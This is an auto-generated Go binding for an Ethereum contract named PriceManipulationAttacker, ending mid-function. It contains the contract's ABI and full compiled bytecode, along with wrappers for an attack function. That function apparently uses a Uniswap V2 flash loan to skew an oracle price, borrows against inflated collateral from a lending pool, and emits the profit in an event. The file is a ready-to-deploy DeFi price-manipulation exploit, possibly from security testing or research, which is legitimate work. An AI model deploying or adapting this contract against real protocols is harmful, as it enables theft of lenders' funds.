// Code generated via abigen V2 - DO NOT EDIT.
// This file is a generated binding and any manual changes will be lost.

package attacker

import (
	"bytes"
	"errors"
	"math/big"

	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/accounts/abi/bind/v2"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/core/types"
)

// Reference imports to suppress errors if they are not otherwise used.
var (
	_ = bytes.Equal
	_ = errors.New
	_ = big.NewInt
	_ = common.Big1
	_ = types.BloomLookup
	_ = abi.ConvertType
)

// PriceManipulationAttackerMetaData contains all meta data concerning the PriceManipulationAttacker contract.
var PriceManipulationAttackerMetaData = bind.MetaData{
	ABI: "[{\"inputs\":[{\"internalType\":\"address\",\"name\":\"lendingPool_\",\"type\":\"address\"},{\"internalType\":\"address\",\"name\":\"oraclePair_\",\"type\":\"address\"},{\"internalType\":\"address\",\"name\":\"flashPair_\",\"type\":\"address\"},{\"internalType\":\"address\",\"name\":\"asset_\",\"type\":\"address\"},{\"internalType\":\"address\",\"name\":\"collateral_\",\"type\":\"address\"}],\"stateMutability\":\"nonpayable\",\"type\":\"constructor\"},{\"inputs\":[],\"name\":\"BadPair\",\"type\":\"error\"},{\"inputs\":[],\"name\":\"NotFlashPair\",\"type\":\"error\"},{\"inputs\":[],\"name\":\"NotInitiator\",\"type\":\"error\"},{\"inputs\":[{\"internalType\":\"address\",\"name\":\"owner\",\"type\":\"address\"}],\"name\":\"OwnableInvalidOwner\",\"type\":\"error\"},{\"inputs\":[{\"internalType\":\"address\",\"name\":\"account\",\"type\":\"address\"}],\"name\":\"OwnableUnauthorizedAccount\",\"type\":\"error\"},{\"inputs\":[{\"internalType\":\"address\",\"name\":\"token\",\"type\":\"address\"}],\"name\":\"SafeERC20FailedOperation\",\"type\":\"error\"},{\"anonymous\":false,\"inputs\":[{\"indexed\":false,\"internalType\":\"uint256\",\"name\":\"flashAmount\",\"type\":\"uint256\"},{\"indexed\":false,\"internalType\":\"uint256\",\"name\":\"collateralDeposited\",\"type\":\"uint256\"},{\"indexed\":false,\"internalType\":\"uint256\",\"name\":\"borrowed\",\"type\":\"uint256\"},{\"indexed\":false,\"internalType\":\"uint256\",\"name\":\"profit\",\"type\":\"uint256\"}],\"name\":\"AttackExecuted\",\"type\":\"event\"},{\"anonymous\":false,\"inputs\":[{\"indexed\":true,\"internalType\":\"address\",\"name\":\"previousOwner\",\"type\":\"address\"},{\"indexed\":true,\"internalType\":\"address\",\"name\":\"newOwner\",\"type\":\"address\"}],\"name\":\"OwnershipTransferred\",\"type\":\"event\"},{\"inputs\":[],\"name\":\"asset\",\"outputs\":[{\"internalType\":\"contractIERC20\",\"name\":\"\",\"type\":\"address\"}],\"stateMutability\":\"view\",\"type\":\"function\"},{\"inputs\":[{\"internalType\":\"uint256\",\"name\":\"flashAmount\",\"type\":\"uint256\"},{\"internalType\":\"uint256\",\"name\":\"collateralAmount\",\"type\":\"uint256\"},{\"internalType\":\"uint256\",\"name\":\"borrowAmount\",\"type\":\"uint256\"}],\"name\":\"attack\",\"outputs\":[],\"stateMutability\":\"nonpayable\",\"type\":\"function\"},{\"inputs\":[],\"name\":\"collateral\",\"outputs\":[{\"internalType\":\"contractIERC20\",\"name\":\"\",\"type\":\"address\"}],\"stateMutability\":\"view\",\"type\":\"function\"},{\"inputs\":[],\"name\":\"flashPair\",\"outputs\":[{\"internalType\":\"contractIUniswapV2Pair\",\"name\":\"\",\"type\":\"address\"}],\"stateMutability\":\"view\",\"type\":\"function\"},{\"inputs\":[],\"name\":\"lendingPool\",\"outputs\":[{\"internalType\":\"contractILendingPoolLike\",\"name\":\"\",\"type\":\"address\"}],\"stateMutability\":\"view\",\"type\":\"function\"},{\"inputs\":[],\"name\":\"oraclePair\",\"outputs\":[{\"internalType\":\"contractIUniswapV2Pair\",\"name\":\"\",\"type\":\"address\"}],\"stateMutability\":\"view\",\"type\":\"function\"},{\"inputs\":[],\"name\":\"owner\",\"outputs\":[{\"internalType\":\"address\",\"name\":\"\",\"type\":\"address\"}],\"stateMutability\":\"view\",\"type\":\"function\"},{\"inputs\":[],\"name\":\"renounceOwnership\",\"outputs\":[],\"stateMutability\":\"nonpayable\",\"type\":\"function\"},{\"inputs\":[{\"internalType\":\"address\",\"name\":\"newOwner\",\"type\":\"address\"}],\"name\":\"transferOwnership\",\"outputs\":[],\"stateMutability\":\"nonpayable\",\"type\":\"function\"},{\"inputs\":[{\"internalType\":\"address\",\"name\":\"sender\",\"type\":\"address\"},{\"internalType\":\"uint256\",\"name\":\"\",\"type\":\"uint256\"},{\"internalType\":\"uint256\",\"name\":\"\",\"type\":\"uint256\"},{\"internalType\":\"bytes\",\"name\":\"data\",\"type\":\"bytes\"}],\"name\":\"uniswapV2Call\",\"outputs\":[],\"stateMutability\":\"nonpayable\",\"type\":\"function\"},{\"inputs\":[{\"internalType\":\"address\",\"name\":\"token\",\"type\":\"address\"}],\"name\":\"withdraw\",\"outputs\":[],\"stateMutability\":\"nonpayable\",\"type\":\"function\"}]",
	ID:  "PriceManipulationAttacker",
	Bin: "0x610120604052348015610010575f5ffd5b506040516112de3803806112de83398101604081905261002f91610262565b338061005457604051631e4fbdf760e01b81525f600482015260240160405180910390fd5b61005d816100a4565b506001600160a01b0380861660805284811660a05283811660c05282811660e05281166101005261008f8483836100f3565b61009a8383836100f3565b50505050506102e3565b5f80546001600160a01b038381166001600160a01b0319831681178455604051919092169283917f8be0079c531659141344cd1fd0a4f28419497f9722a3daafe3b4186f6b6457e09190a35050565b5f836001600160a01b0316630dfe16816040518163ffffffff1660e01b8152600401602060405180830381865afa158015610130573d5f5f3e3d5ffd5b505050506040513d601f19601f8201168201806040525081019061015491906102c3565b90505f846001600160a01b031663d21220a76040518163ffffffff1660e01b8152600401602060405180830381865afa158015610193573d5f5f3e3d5ffd5b505050506040513d601f19601f820116820180604052508101906101b791906102c3565b9050836001600160a01b0316826001600160a01b03161480156101eb5750826001600160a01b0316816001600160a01b0316145b806102235750826001600160a01b0316826001600160a01b03161480156102235750836001600160a01b0316816001600160a01b0316145b610240576040516316d2b9ed60e11b815260040160405180910390fd5b5050505050565b80516001600160a01b038116811461025d575f5ffd5b919050565b5f5f5f5f5f60a08688031215610276575f5ffd5b61027f86610247565b945061028d60208701610247565b935061029b60408701610247565b92506102a960608701610247565b91506102b760808701610247565b90509295509295909350565b5f602082840312156102d3575f5ffd5b6102dc82610247565b9392505050565b60805160a05160c05160e05161010051610f4f61038f5f395f81816101ba01528181610302015261045a01525f818160c4015281816102ad015281816104d701528181610513015281816106cb015261076301525f818161012d015281816101fa015281816104850152818161053d015261064201525f81816101930152818161028c015261043901525f818161016c015281816102dc0152818161035501526103cf0152610f4f5ff3fe608060405234801561000f575f5ffd5b50600436106100a6575f3560e01c8063715018a61161006e578063715018a61461014f5780638da5cb5b14610157578063a59a997314610167578063adc244ac1461018e578063d8dfeb45146101b5578063f2fde38b146101dc575f5ffd5b806310d1e85c146100aa57806338d52e0f146100bf578063407f85f81461010257806351cff8d9146101155780636f98fb5d14610128575b5f5ffd5b6100bd6100b8366004610c8b565b6101ef565b005b6100e67f000000000000000000000000000000000000000000000000000000000000000081565b6040516001600160a01b03909116815260200160405180910390f35b6100bd610110366004610d1b565b610507565b6100bd610123366004610d44565b6107da565b6100e67f000000000000000000000000000000000000000000000000000000000000000081565b6100bd610872565b5f546001600160a01b03166100e6565b6100e67f000000000000000000000000000000000000000000000000000000000000000081565b6100e67f000000000000000000000000000000000000000000000000000000000000000081565b6100e67f000000000000000000000000000000000000000000000000000000000000000081565b6100bd6101ea366004610d44565b610885565b336001600160a01b037f0000000000000000000000000000000000000000000000000000000000000000161461023857604051631e60722b60e21b815260040160405180910390fd5b6001600160a01b0385163014158061025957505f54600160a01b900460ff16155b156102775760405163215af1ad60e11b815260040160405180910390fd5b5f61028482840184610d66565b90505f6102d57f00000000000000000000000000000000000000000000000000000000000000007f0000000000000000000000000000000000000000000000000000000000000000845f01516108c7565b90506103397f000000000000000000000000000000000000000000000000000000000000000083602001517f00000000000000000000000000000000000000000000000000000000000000006001600160a01b0316610ac49092919063ffffffff16565b602082015160405163bad4a01f60e01b815260048101919091527f00000000000000000000000000000000000000000000000000000000000000006001600160a01b03169063bad4a01f906024015f604051808303815f87803b15801561039e575f5ffd5b505af11580156103b0573d5f5f3e3d5ffd5b505050604080840151905163317afabb60e21b81526001600160a01b037f000000000000000000000000000000000000000000000000000000000000000016925063c5ebeaec916104079160040190815260200190565b5f604051808303815f87803b15801561041e575f5ffd5b505af1158015610430573d5f5f3e3d5ffd5b5050505061047f7f00000000000000000000000000000000000000000000000000000000000000007f0000000000000000000000000000000000000000000000000000000000000000836108c7565b506104fe7f00000000000000000000000000000000000000000000000000000000000000006103e5845f01516103e86104b89190610ddf565b6104c29190610dfc565b6104cd906001610e1b565b6001600160a01b037f0000000000000000000000000000000000000000000000000000000000000000169190610b43565b50505050505050565b61050f610b50565b5f5f7f00000000000000000000000000000000000000000000000000000000000000006001600160a01b03167f00000000000000000000000000000000000000000000000000000000000000006001600160a01b0316630dfe16816040518163ffffffff1660e01b8152600401602060405180830381865afa158015610597573d5f5f3e3d5ffd5b505050506040513d601f19601f820116820180604052508101906105bb9190610e2e565b6001600160a01b0316146105d0575f856105d3565b845f5b5f805460ff60a01b1916600160a01b179055604080516060808201835289825260208083018a815292840189815284519182018c905292518185015291518282015282518083039091018152608082019283905263022c0d9f60e01b9092529294509092506001600160a01b037f0000000000000000000000000000000000000000000000000000000000000000169163022c0d9f9161067c9186918691309190608401610e49565b5f604051808303815f87803b158015610693575f5ffd5b505af11580156106a5573d5f5f3e3d5ffd5b50505f805460ff60a01b191681556040516370a0823160e01b81523060048201529092507f00000000000000000000000000000000000000000000000000000000000000006001600160a01b031691506370a0823190602401602060405180830381865afa158015610719573d5f5f3e3d5ffd5b505050506040513d601f19601f8201168201806040525081019061073d9190610e9b565b9050801561078a5761078a6107595f546001600160a01b031690565b6001600160a01b037f0000000000000000000000000000000000000000000000000000000000000000169083610b43565b6040805187815260208101879052908101859052606081018290527fd85f2593d8b343751473cd8f3a09f28f4adf5251d11fb1aab0eb4d469c74ba299060800160405180910390a1505050505050565b6107e2610b50565b8061086e6107f75f546001600160a01b031690565b6040516370a0823160e01b81523060048201526001600160a01b038416906370a0823190602401602060405180830381865afa158015610839573d5f5f3e3d5ffd5b505050506040513d601f19601f8201168201806040525081019061085d9190610e9b565b6001600160a01b0384169190610b43565b5050565b61087a610b50565b6108835f610b7c565b565b61088d610b50565b6001600160a01b0381166108bb57604051631e4fbdf760e01b81525f60048201526024015b60405180910390fd5b6108c481610b7c565b50565b5f5f5f856001600160a01b0316630902f1ac6040518163ffffffff1660e01b8152600401606060405180830381865afa158015610906573d5f5f3e3d5ffd5b505050506040513d601f19601f8201168201806040525081019061092a9190610ecd565b50915091505f856001600160a01b0316876001600160a01b0316630dfe16816040518163ffffffff1660e01b8152600401602060405180830381865afa158015610976573d5f5f3e3d5ffd5b505050506040513d601f19601f8201168201806040525081019061099a9190610e2e565b6001600160a01b03161490505f5f826109c657836001600160701b0316856001600160701b03166109db565b846001600160701b0316846001600160701b03165b90925090505f6109ed886103e5610ddf565b9050806109fc846103e8610ddf565b610a069190610e1b565b610a108383610ddf565b610a1a9190610dfc565b9650610a306001600160a01b038a168b8a610b43565b5f5f85610a3e57885f610a41565b5f895b60405163022c0d9f60e01b81526004810183905260248101829052306044820152608060648201525f608482015291935091506001600160a01b038d169063022c0d9f9060a4015f604051808303815f87803b158015610a9f575f5ffd5b505af1158015610ab1573d5f5f3e3d5ffd5b5050505050505050505050509392505050565b610ad08383835f610bcb565b610b3e57610ae183835f6001610bcb565b610b0957604051635274afe760e01b81526001600160a01b03841660048201526024016108b2565b610b168383836001610bcb565b610b3e57604051635274afe760e01b81526001600160a01b03841660048201526024016108b2565b505050565b610b168383836001610c2d565b5f546001600160a01b031633146108835760405163118cdaa760e01b81523360048201526024016108b2565b5f80546001600160a01b038381166001600160a01b0319831681178455604051919092169283917f8be0079c531659141344cd1fd0a4f28419497f9722a3daafe3b4186f6b6457e09190a35050565b60405163095ea7b360e01b5f8181526001600160a01b038616600452602485905291602083604481808b5af1925060015f51148316610c21578383151615610c15573d5f823e3d81fd5b5f873b113d1516831692505b60405250949350505050565b60405163a9059cbb60e01b5f8181526001600160a01b038616600452602485905291602083604481808b5af1925060015f51148316610c21578383151615610c15573d5f823e3d81fd5b6001600160a01b03811681146108c4575f5ffd5b5f5f5f5f5f60808688031215610c9f575f5ffd5b8535610caa81610c77565b94506020860135935060408601359250606086013567ffffffffffffffff811115610cd3575f5ffd5b8601601f81018813610ce3575f5ffd5b803567ffffffffffffffff811115610cf9575f5ffd5b886020828401011115610d0a575f5ffd5b959894975092955050506020019190565b5f5f5f60608486031215610d2d575f5ffd5b505081359360208301359350604090920135919050565b5f60208284031215610d54575f5ffd5b8135610d5f81610c77565b9392505050565b5f6060828403128015610d77575f5ffd5b506040516060810167ffffffffffffffff81118282101715610da757634e487b7160e01b5f52604160045260245ffd5b60409081528335825260208085013590830152928301359281019290925250919050565b634e487b7160e01b5f52601160045260245ffd5b8082028115828204841417610df657610df6610dcb565b92915050565b5f82610e1657634e487b7160e01b5f52601260045260245ffd5b500490565b80820180821115610df657610df6610dcb565b5f60208284031215610e3e575f5ffd5b8151610d5f81610c77565b84815283602082015260018060a01b0383166040820152608060608201525f8251806080840152806020850160a085015e5f60a0828501015260a0601f19601f83011684010191505095945050505050565b5f60208284031215610eab575f5ffd5b5051919050565b80516001600160701b0381168114610ec8575f5ffd5b919050565b5f5f5f60608486031215610edf575f5ffd5b610ee884610eb2565b9250610ef660208501610eb2565b9150604084015163ffffffff81168114610f0e575f5ffd5b80915050925092509256fea2646970667358221220d44ab04f48f1e9af69fa44c392ab1efc69cada5b32aca3559cb52583ee56214664736f6c634300081e0033",
}

// PriceManipulationAttacker is an auto generated Go binding around an Ethereum contract.
type PriceManipulationAttacker struct {
	abi abi.ABI
}

// GetABI returns the ABI associated with this contract binding.
func (c *PriceManipulationAttacker) GetABI() abi.ABI {
	return c.abi
}

// NewPriceManipulationAttacker creates a new instance of PriceManipulationAttacker.
func NewPriceManipulationAttacker() *PriceManipulationAttacker {
	parsed, err := PriceManipulationAttackerMetaData.ParseABI()
	if err != nil {
		panic(errors.New("invalid ABI: " + err.Error()))
	}
	return &PriceManipulationAttacker{abi: *parsed}
}

// Instance creates a wrapper for a deployed contract instance at the given address.
// Use this to create the instance object passed to abigen v2 library functions Call, Transact, etc.
func (c *PriceManipulationAttacker) Instance(backend bind.ContractBackend, addr common.Address) *bind.BoundContract {
	return bind.NewBoundContract(addr, c.abi, backend, backend, backend)
}

// PackConstructor is the Go binding used to pack the parameters required for
// contract deployment.
//
// Solidity: constructor(address lendingPool_, address oraclePair_, address flashPair_, address asset_, address collateral_) returns()
func (priceManipulationAttacker *PriceManipulationAttacker) PackConstructor(lendingPool_ common.Address, oraclePair_ common.Address, flashPair_ common.Address, asset_ common.Address, collateral_ common.Address) []byte {
	enc, err := priceManipulationAttacker.abi.Pack("", lendingPool_, oraclePair_, flashPair_, asset_, collateral_)
	if err != nil {
		panic(err)
	}
	return enc
}

// PackAsset is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x38d52e0f.  This method will panic if any
// invalid/nil inputs are passed.
//
// Solidity: function asset() view returns(address)
func (priceManipulationAttacker *PriceManipulationAttacker) PackAsset() []byte {
	enc, err := priceManipulationAttacker.abi.Pack("asset")
	if err != nil {
		panic(err)
	}
	return enc
}

// TryPackAsset is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x38d52e0f.  This method will return an error
// if any inputs are invalid/nil.
//
// Solidity: function asset() view returns(address)
func (priceManipulationAttacker *PriceManipulationAttacker) TryPackAsset() ([]byte, error) {
	return priceManipulationAttacker.abi.Pack("asset")
}

// UnpackAsset is the Go binding that unpacks the parameters returned
// from invoking the contract method with ID 0x38d52e0f.
//
// Solidity: function asset() view returns(address)
func (priceManipulationAttacker *PriceManipulationAttacker) UnpackAsset(data []byte) (common.Address, error) {
	out, err := priceManipulationAttacker.abi.Unpack("asset", data)
	if err != nil {
		return *new(common.Address), err
	}
	out0 := *abi.ConvertType(out[0], new(common.Address)).(*common.Address)
	return out0, nil
}

// PackAttack is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x407f85f8.  This method will panic if any
// invalid/nil inputs are passed.
//
// Solidity: function attack(uint256 flashAmount, uint256 collateralAmount, uint256 borrowAmount) returns()
func (priceManipulationAttacker *PriceManipulationAttacker) PackAttack(flashAmount *big.Int, collateralAmount *big.Int, borrowAmount *big.Int) []byte {
	enc, err := priceManipulationAttacker.abi.Pack("attack", flashAmount, collateralAmount, borrowAmount)
	if err != nil {
		panic(err)
	}
	return enc
}

// TryPackAttack is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x407f85f8.  This method will return an error
// if any inputs are invalid/nil.
//
// Solidity: function attack(uint256 flashAmount, uint256 collateralAmount, uint256 borrowAmount) returns()
func (priceManipulationAttacker *PriceManipulationAttacker) TryPackAttack(flashAmount *big.Int, collateralAmount *big.Int, borrowAmount *big.Int) ([]byte, error) {
	return priceManipulationAttacker.abi.Pack("attack", flashAmount, collateralAmount, borrowAmount)
}

// PackCollateral is the Go binding used to pack the parameters required for calling
// the contract method with ID 0xd8dfeb45.  This method will panic if any
// invalid/nil inputs are passed.
//
// Solidity: function collateral() view returns(address)
func (priceManipulationAttacker *PriceManipulationAttacker) PackCollateral() []byte {
	enc, err := priceManipulationAttacker.abi.Pack("collateral")
	if err != nil {
		panic(err)
	}
	return enc
}

// TryPackCollateral is the Go binding used to pack the parameters required for calling
// the contract method with ID 0xd8dfeb45.  This method will return an error
// if any inputs are invalid/nil.
//
// Solidity: function collateral() view returns(address)
func (priceManipulationAttacker *PriceManipulationAttacker) TryPackCollateral() ([]byte, error) {
	return priceManipulationAttacker.abi.Pack("collateral")
}

// UnpackCollateral is the Go binding that unpacks the parameters returned
// from invoking the contract method with ID 0xd8dfeb45.
//
// Solidity: function collateral() view returns(address)
func (priceManipulationAttacker *PriceManipulationAttacker) UnpackCollateral(data []byte) (common.Address, error) {
	out, err := priceManipulationAttacker.abi.Unpack("collateral", data)
	if err != nil {
		return *new(common.Address), err
	}
	out0 := *abi.ConvertType(out[0], new(common.Address)).(*common.Address)
	return out0, nil
}

// PackFlashPair is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x6f98fb5d.  This method will panic if any
// invalid/nil inputs are passed.
//
// Solidity: function flashPair() view returns(address)
func (priceManipulationAttacker *PriceManipulationAttacker) PackFlashPair() []byte {
	enc, err := priceManipulationAttacker.abi.Pack("flashPair")
	if err != nil {
		panic(err)
	}
	return enc
}

// TryPackFlashPair is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x6f98fb5d.  This method will return an error
// if any inputs are invalid/nil.
//
// Solidity: function flashPair() view returns(address)
func (priceManipulationAttacker *PriceManipulationAttacker) TryPackFlashPair() ([]byte, error) {
	return priceManipulationAttacker.abi.Pack("flashPair")
}

// UnpackFlashPair is the Go binding that unpacks the parameters returned
// from invoking the contract method with ID 0x6f98fb5d.
//
// Solidity: function flashPair() view returns(address)
func (priceManipulationAttacker *PriceManipulationAttacker) UnpackFlashPair(data []byte) (common.Address, error) {
	out, err := priceManipulationAttacker.abi.Unpack("flashPair", data)
	if err != nil {
		return *new(common.Address), err
	}
	out0 := *abi.ConvertType(out[0], new(common.Address)).(*common.Address)
	return out0, nil
}

// PackLendingPool is the Go binding used to pack the parameters required for calling
// the contract method with ID 0xa59a9973.  This method will panic if any
// invalid/nil inputs are passed.
//
// Solidity: function lendingPool() view returns(address)
func (priceManipulationAttacker *PriceManipulationAttacker) PackLendingPool() []byte {
	enc, err := priceManipulationAttacker.abi.Pack("lendingPool")
	if err != nil {
		panic(err)
	}
	return enc
}

// TryPackLendingPool is the Go binding used to pack the parameters required for calling
// the contract method with ID 0xa59a9973.  This method will return an error
// if any inputs are invalid/nil.
//
// Solidity: function lendingPool() view returns(address)
func (priceManipulationAttacker *PriceManipulationAttacker) TryPackLendingPool() ([]byte, error) {
	return priceManipulationAttacker.abi.Pack("lendingPool")
}

// UnpackLendingPool is the Go binding that unpacks the parameters returned
// from invoking the contract method with ID 0xa59a9973.
//
// Solidity: function lendingPool() view returns(address)
func (priceManipulationAttacker *PriceManipulationAttacker) UnpackLendingPool(data []byte) (common.Address, error) {
	out, err := priceManipulationAttacker.abi.Unpack("lendingPool", data)
	if err != nil {
		return *new(common.Address), err
	}
	out0 := *abi.ConvertType(out[0], new(common.Address)).(*common.Address)
	return out0, nil
}

// PackOraclePair is the Go binding used to pack the parameters required for calling
// the contract method with ID 0xadc244ac.  This method will panic if any
// invalid/nil inputs are passed.
//
// Solidity: function oraclePair() view returns(address)
func (priceManipulationAttacker *PriceManipulationAttacker) PackOraclePair() []byte {
	enc, err := priceManipulationAttacker.abi.Pack("oraclePair")
	if err != nil {
		panic(err)
	}
	return enc
}

// TryPackOraclePair is the Go binding used to pack the parameters required for calling
// the contract method with ID 0xadc244ac.  This method will return an error
// if any inputs are invalid/nil.
//
// Solidity: function oraclePair() view returns(address)
func (priceManipulationAttacker *PriceManipulationAttacker) TryPackOraclePair() ([]byte, error) {
	return priceManipulationAttacker.abi.Pack("oraclePair")
}

// UnpackOraclePair is the Go binding that unpacks the parameters returned
// from invoking the contract method with ID 0xadc244ac.
//
// Solidity: function oraclePair() view returns(address)
func (priceManipulationAttacker *PriceManipulationAttacker) UnpackOraclePair(data []byte) (common.Address, error) {
	out, err := priceManipulationAttacker.abi.Unpack("oraclePair", data)
	if err != nil {
		return *new(common.Address), err
	}
	out0 := *abi.ConvertType(out[0], new(common.Address)).(*common.Address)
	return out0, nil
}

// PackOwner is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x8da5cb5b.  This method will panic if any
// invalid/nil inputs are passed.
//
// Solidity: function owner() view returns(address)
func (priceManipulationAttacker *PriceManipulationAttacker) PackOwner() []byte {
	enc, err := priceManipulationAttacker.abi.Pack("owner")
	if err != nil {
		panic(err)
	}
	return enc
}

// TryPackOwner is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x8da5cb5b.  This method will return an error
// if any inputs are invalid/nil.
//
// Solidity: function owner() view returns(address)
func (priceManipulationAttacker *PriceManipulationAttacker) TryPackOwner() ([]byte, error) {
	return priceManipulationAttacker.abi.Pack("owner")
}

// UnpackOwner is the Go binding that unpacks the parameters returned
// from invoking the contract method with ID 0x8da5cb5b.
//
// Solidity: function owner() view returns(address)
func (priceManipulationAttacker *PriceManipulationAttacker) UnpackOwner(data []byte) (common.Address, error) {
	out, err := priceManipulationAttacker.abi.Unpack("owner", data)
	if err != nil {
		return *new(common.Address), err
	}
	out0 := *abi.ConvertType(out[0], new(common.Address)).(*common.Address)
	return out0, nil
}

// PackRenounceOwnership is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x715018a6.  This method will panic if any
// invalid/nil inputs are passed.
//
// Solidity: function renounceOwnership() returns()
func (priceManipulationAttacker *PriceManipulationAttacker) PackRenounceOwnership() []byte {
	enc, err := priceManipulationAttacker.abi.Pack("renounceOwnership")
	if err != nil {
		panic(err)
	}
	return enc
}

// TryPackRenounceOwnership is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x715018a6.  This method will return an error
// if any inputs are invalid/nil.
//
// Solidity: function renounceOwnership() returns()
func (priceManipulationAttacker *PriceManipulationAttacker) TryPackRenounceOwnership() ([]byte, error) {
	return priceManipulationAttacker.abi.Pack("renounceOwnership")
}

// PackTransferOwnership is the Go binding used to pack the parameters required for calling
// the contract method with ID 0xf2fde38b.  This method will panic if any
// invalid/nil inputs are passed.
//
// Solidity: function transferOwnership(address newOwner) returns()
func (priceManipulationAttacker *PriceManipulationAttacker) PackTransferOwnership(newOwner common.Address) []byte {
	enc, err := priceManipulationAttacker.abi.Pack("transferOwnership", newOwner)
	if err != nil {
		panic(err)
	}
	return enc
}

// TryPackTransferOwnership is the Go binding used to pack the parameters required for calling
// the contract method with ID 0xf2fde38b.  This method will return an error
// if any inputs are invalid/nil.
//
// Solidity: function transferOwnership(address newOwner) returns()
func (priceManipulationAttacker *PriceManipulationAttacker) TryPackTransferOwnership(newOwner common.Address) ([]byte, error) {
	return priceManipulationAttacker.abi.Pack("transferOwnership", newOwner)
}

// PackUniswapV2Call is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x10d1e85c.  This method will panic if any
// invalid/nil inputs are passed.
//
// Solidity: function uniswapV2Call(address sender, uint256 , uint256 , bytes data) returns()
func (priceManipulationAttacker *PriceManipulationAttacker) PackUniswapV2Call(sender common.Address, arg1 *big.Int, arg2 *big.Int, data []byte) []byte {
	enc, err := priceManipulationAttacker.abi.Pack("uniswapV2Call", sender, arg1, arg2, data)
	if err != nil {
		panic(err)
	}
	return enc
}

// TryPackUniswapV2Call is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x10d1e85c.  This method will return an error
// if any inputs are invalid/nil.
//
// Solidity: function uniswapV2Call(address sender, uint256 , uint256 , bytes data) returns()
func (priceManipulationAttacker *PriceManipulationAttacker) TryPackUniswapV2Call(sender common.Address, arg1 *big.Int, arg2 *big.Int, data []byte) ([]byte, error) {
	return priceManipulationAttacker.abi.Pack("uniswapV2Call", sender, arg1, arg2, data)
}

// PackWithdraw is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x51cff8d9.  This method will panic if any
// invalid/nil inputs are passed.
//
// Solidity: function withdraw(address token) returns()
func (priceManipulationAttacker *PriceManipulationAttacker) PackWithdraw(token common.Address) []byte {
	enc, err := priceManipulationAttacker.abi.Pack("withdraw", token)
	if err != nil {
		panic(err)
	}
	return enc
}

// TryPackWithdraw is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x51cff8d9.  This method will return an error
// if any inputs are invalid/nil.
//
// Solidity: function withdraw(address token) returns()
func (priceManipulationAttacker *PriceManipulationAttacker) TryPackWithdraw(token common.Address) ([]byte, error) {
	return priceManipulationAttacker.abi.Pack("withdraw", token)
}

// PriceManipulationAttackerAttackExecuted represents a AttackExecuted event raised by the PriceManipulationAttacker contract.
type PriceManipulationAttackerAttackExecuted struct {
	FlashAmount         *big.Int
	CollateralDeposited *big.Int
	Borrowed            *big.Int
	Profit              *big.Int
	Raw                 *types.Log // Blockchain specific contextual infos
}

const PriceManipulationAttackerAttackExecutedEventName = "AttackExecuted"

// ContractEventName returns the user-defined event name.
func (PriceManipulationAttackerAttackExecuted) ContractEventName() string {
	return PriceManipulationAttackerAttackExecutedEventName
}

// UnpackAttackExecutedEvent is the Go binding that unpacks the event data emitted
// by contract.
//
// Solidity: event AttackExecuted(uint256 flashAmount, uint256 collateralDeposited, uint256 borrowed, uint256 profit)
func (priceManipulationAttacker *PriceManipulationAttacker) UnpackAttackExecutedEvent(log *types.Log) (*PriceManipulationAttackerAttackExecuted, error) {
	event := "AttackExecuted"
	if len(log.Topics) == 0 {
		return nil, bind.ErrNoEventSignature
	}
	if log.Topics[0] != priceManipulationAttacker.abi.Events[event].ID {
		return nil, bind.ErrEventSignatureMismatch
	}
	out := new(PriceManipulationAttackerAttackExecuted)
	if len(log.Data) > 0 {
		if err := priceManipulationAttacker.abi.UnpackIntoInterface(out, event, log.Data); err != nil {
			return nil, err
		}
	}
	var indexed abi.Arguments
	for _, arg := range priceManipulationAttacker.abi.Events[event].Inputs {
		if arg.Indexed {
			indexed = append(indexed, arg)
		}
	}
	if err := abi.ParseTopics(out, indexed, log.Topics[1:]); err != nil {
		return nil, err
	}
	out.Raw = log
	return out, nil
}

// PriceManipulationAttackerOwnershipTransferred represents a OwnershipTransferred event raised by the PriceManipulationAttacker contract.
type PriceManipulationAttackerOwnershipTransferred struct {
	PreviousOwner common.Address
	NewOwner      common.Address
	Raw           *types.Log // Blockchain specific contextual infos
}

const PriceManipulationAttackerOwnershipTransferredEventName = "OwnershipTransferred"

// ContractEventName returns the user-defined event name.
func (PriceManipulationAttackerOwnershipTransferred) ContractEventName() string {
	return PriceManipulationAttackerOwnershipTransferredEventName
}

// UnpackOwnershipTransferredEvent is the Go binding that unpacks the event data emitted
// by contract.
//
// Solidity: event OwnershipTransferred(address indexed previousOwner, address indexed newOwner)
func (priceManipulationAttacker *PriceManipulationAttacker) UnpackOwnershipTransferredEvent(log *types.Log) (*PriceManipulationAttackerOwnershipTransferred, error) {
	event := "OwnershipTransferred"
	if len(log.Topics) == 0 {
		return nil, bind.ErrNoEventSignature
	}
	if log.Topics[0] != priceManipulationAttacker.abi.Events[event].ID {
		return nil, bind.ErrEventSignatureMismatch
	}
	out := new(PriceManipulationAttackerOwnershipTransferred)
	if len(log.Data) > 0 {
		if err := priceManipulationAttacker.abi.UnpackIntoInterface(out, event, log.Data); err != nil {
			return nil, err
		}
	}
	var indexed abi.Arguments
	for _, arg := range priceManipulationAttacker.abi.Events[event].Inputs {
		if arg.Indexed {
			indexed = append(indexed, arg)
		}
	}
	if err := abi.ParseTopics(out, indexed, log.Topics[1:]); err != nil {
		return nil, err
	}
	out.Raw = log
	return out, nil
}

// UnpackError attempts to decode the provided error data using user-defined
// error definitions.
func (priceManipulationAttacker *PriceManipulationAttacker) UnpackError(raw []byte) (any, error) {
	if bytes.Equal(raw[:4], priceManipulationAttacker.abi.Errors["BadPair"].ID.Bytes()[:4]) {
		return priceManipulationAttacker.UnpackBadPairError(raw[4:])
	}
	if bytes.Equal(raw[:4], priceManipulationAttacker.abi.Errors["NotFlashPair"].ID.Bytes()[:4]) {
		return priceManipulationAttacker.UnpackNotFlashPairError(raw[4:])
	}
